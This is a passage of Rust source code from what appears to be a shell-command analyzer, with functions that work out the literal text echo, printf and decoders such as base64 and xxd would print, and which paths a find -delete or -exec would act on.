        } = expr
        else {
            return None;
        };
        // Once IFS is changed, how any expansion splits is beyond this analysis.
        if self.vars.contains_key("IFS") {
            return None;
        }
        if name == "IFS" {
            return Some(" \t\n".into());
        }
        if let Some(assigned) = self.vars.get(name) {
            return assigned.clone();
        }
        match name.as_str() {
            "IFS" => Some(" \t\n".into()),
            "HOME" => self.home.clone(),
            "PWD" => self.cwd.clone(),
            "TMPDIR" => Some(self.tmpdir.clone()),
            _ => None,
        }
    }

    /// Parse `$(...)` and backticks found inside text the parser keeps opaque (arithmetic,
    /// parameter expansions, `[[ ]]`). Returns the programs they run.
    fn hidden_substitutions(&mut self, text: &str) -> Vec<String> {
        let mut programs = Vec::new();
        for code in extract_substitutions(text) {
            programs.extend(self.script(&code, Some("$(...)"), false));
        }
        programs
    }
}

/// The literal text a command prints, if it only prints literals (`echo`, `printf`, a
/// heredoc into `cat`), with escapes interpreted the way the program does.
/// What a stage prints, as code or content someone may run: bash's `echo` prints `\n` as
/// written, zsh's (macOS' default shell) as a newline, so a plain `echo` with `\n` yields
/// both readings, one after the other.
pub(crate) fn printed_text_any_shell(cmd: &Command) -> Option<String> {
    let text = printed_text(cmd)?;
    let plain_echo = cmd.program == "echo"
        && !cmd
            .args
            .iter()
            .take_while(|a| a.text.starts_with('-'))
            .any(|a| a.text.contains('e'));
    if plain_echo && text.contains("\\n") {
        return Some(format!("{text}\n{}", text.replace("\\n", "\n")));
    }
    Some(text)
}

/// What a stage prints, read as bash prints it.
pub(crate) fn printed_text(cmd: &Command) -> Option<String> {
    if cmd.args.iter().any(|a| a.dynamic) {
        return None;
    }
    match cmd.program.as_str() {
        "echo" => {
            let mut escapes = false;
            let mut words: Vec<&str> = Vec::new();
            let mut options = true;
            for a in &cmd.args {
                let t = a.text.as_str();
                if options
                    && t.len() > 1
                    && t.starts_with('-')
                    && t[1..].chars().all(|c| "neE".contains(c))
                {
                    escapes |= t.contains('e');
                    continue;
                }
                options = false;
                words.push(t);
            }
            let text = words.join(" ");
            Some(if escapes {
                decode_printf_escapes(&text)
            } else {
                text
            })
        }
        "printf" => {
            // Apply the format: each conversion takes the next argument (`%b` decodes its
            // escapes); the format repeats while arguments remain.
            let mut args = cmd.args.iter().map(|a| a.text.as_str());
            let mut format = args.next()?;
            if format == "--" {
                format = args.next()?;
            }
            let rest: Vec<&str> = args.collect();
            let mut text = String::new();
            let mut used = 0;
            for _ in 0..64 {
                // Escapes are read in the format only: `%s` prints its argument as given
                // (`printf '%s' 'a\''b'` prints a backslash).
                let mut chunk = String::new();
                let mut literal = String::new();
                let mut chars = format.chars().peekable();
                let mut converted = false;
                while let Some(c) = chars.next() {
                    if c != '%' {
                        literal.push(c);
                        continue;
                    }
                    chunk.push_str(&decode_printf_escapes(&std::mem::take(&mut literal)));
                    // Skip flags, width and precision.
                    while chars.peek().is_some_and(|d| "-+ #0123456789.".contains(*d)) {
                        chars.next();
                    }
                    match chars.next() {
                        Some('%') => chunk.push('%'),
                        Some('b') => {
                            converted = true;
                            chunk.push_str(&decode_printf_escapes(
                                rest.get(used).copied().unwrap_or(""),
                            ));
                            used += 1;
                        }
                        Some(_) => {
                            converted = true;
                            chunk.push_str(rest.get(used).copied().unwrap_or(""));
                            used += 1;
                        }
                        None => {}
                    }
                }
                chunk.push_str(&decode_printf_escapes(&literal));
                text.push_str(&chunk);
                if !converted || used >= rest.len() {
                    break;
                }
            }
            Some(text)
        }
        "cat" | "tee"
            if cmd
                .args
                .iter()
                .all(|a| a.text.starts_with('-') || cmd.program == "tee")
                && !cmd.stdin_text.is_empty() =>
        {
            Some(cmd.stdin_text.clone())
        }
        _ if cmd.stdin_text.is_empty() => None,
        // Decoders with known input: their output is known too.
        "base64" | "openssl"
            if cmd
                .args
                .iter()
                .any(|a| matches!(a.text.as_str(), "-d" | "--decode" | "-D" | "-di" | "-id")) =>
        {
            decode_base64(&cmd.stdin_text)
        }
        "xxd" if cmd.args.iter().any(|a| a.text.starts_with("-r")) => decode_hex(&cmd.stdin_text),
        "rev" => Some(
            cmd.stdin_text
                .lines()
                .map(|l| l.chars().rev().collect::<String>())
                .collect::<Vec<_>>()
                .join("\n"),
        ),
        "tr" => match cmd.args.as_slice() {
            [a, b] if !a.text.starts_with('-') => tr_map(&cmd.stdin_text, &a.text, &b.text),
            _ => None,
        },
        _ => None,
    }
}

/// find's tests that select some entries (without them, find visits every entry and the
/// starting points themselves).
const FIND_TESTS: &[&str] = &[
    "-name",
    "-iname",
    "-path",
    "-ipath",
    "-wholename",
    "-iwholename",
    "-regex",
    "-iregex",
    "-type",
    "-xtype",
    "-newer",
    "-newermt",
    "-anewer",
    "-cnewer",
    "-user",
    "-group",
    "-nouser",
    "-nogroup",
    "-perm",
    "-size",
    "-empty",
    "-mtime",
    "-mmin",
    "-atime",
    "-amin",
    "-ctime",
    "-cmin",
    "-used",
    "-uid",
    "-gid",
    "-inum",
    "-links",
    "-samefile",
    "-lname",
    "-ilname",
    "-mindepth",
    "-readable",
    "-writable",
    "-executable",
    "-fstype",
    "-context",
];

/// What find's `-delete` or `-exec ... {}` acts on: everything under each starting point,
/// and the starting points themselves unless a test selects entries (`-name '*.pyc'`).
pub(crate) fn find_targets(cmd: &Command) -> Vec<Arg> {
    let filtered = cmd
        .args
        .iter()
        .any(|a| FIND_TESTS.contains(&a.text.as_str()));
    // One `-name PATTERN` and no `-o`: only entries with that name.
    let names: Vec<&Arg> = cmd
        .args
        .windows(2)
        .filter(|w| matches!(w[0].text.as_str(), "-name" | "-iname"))
        .map(|w| &w[1])
        .collect();
    let alternatives = cmd
        .args
        .iter()
        .any(|a| matches!(a.text.as_str(), "-o" | "-or" | "!" | "-not"));
    let name = match names.as_slice() {
        [one] if !alternatives && !one.dynamic && !one.text.contains('/') => Some(one.text.clone()),
        _ => None,
    };
    // `-maxdepth 1 -name X`: only the starting point's own entries of that name.
    let shallow = cmd
        .args
        .windows(2)
        .any(|w| w[0].text == "-maxdepth" && w[1].text == "1");
    let mut out = Vec::new();
    for start in find_starts(cmd) {
        let base = start.text.trim_end_matches('/');
        let under = if shallow { "" } else { "**/" };
        out.push(Arg {
            text: match &name {
                Some(n) => format!("{base}/{under}{n}"),
                None => format!("{base}/**"),
            },
            glob: true,
            ..start.clone()
        });
        // Unlike a shell glob, find also visits dot entries: from the folder it runs in
        // (the project), that includes the repository's `.git`.
        let here = cmd
            .cwd
            .as_deref()
            .is_some_and(|cwd| path::resolve(&start.text, Some(cwd), None).as_deref() == Some(cwd));
        if name.is_none() && here && !start.dynamic {
            out.push(Arg {
                text: format!("{base}/.git"),
                glob: false,
                ..start.clone()
            });
        }
        if !filtered {
            out.push(start);
        }
    }
    out
}

/// find's starting points: its operands before the first expression word.
pub(crate) fn find_starts(cmd: &Command) -> Vec<Arg> {
    let mut out = Vec::new();
    for a in &cmd.args {
        let t = a.text.as_str();
        if matches!(t, "-H" | "-L" | "-P") || t.starts_with("-O") || t.starts_with("-D") {
            continue;
        }
        if t.starts_with('-') || t == "(" || t == "!" || t == "," {
            break;
        }
        out.push(a.clone());
    }
    if out.is_empty() {
        out.push(Arg::literal("."));
    }
    out
}

mod code;
mod code_env;
mod effects;
mod flow;
mod fold;
mod guards;
mod literals;
pub mod model;
mod powershell;
mod sources;
mod words;
mod wrappers;
pub use guards::*;
pub use model::*;
pub use words::*;

#[cfg(test)]
mod effect_tests;
#[cfg(test)]
mod tests;
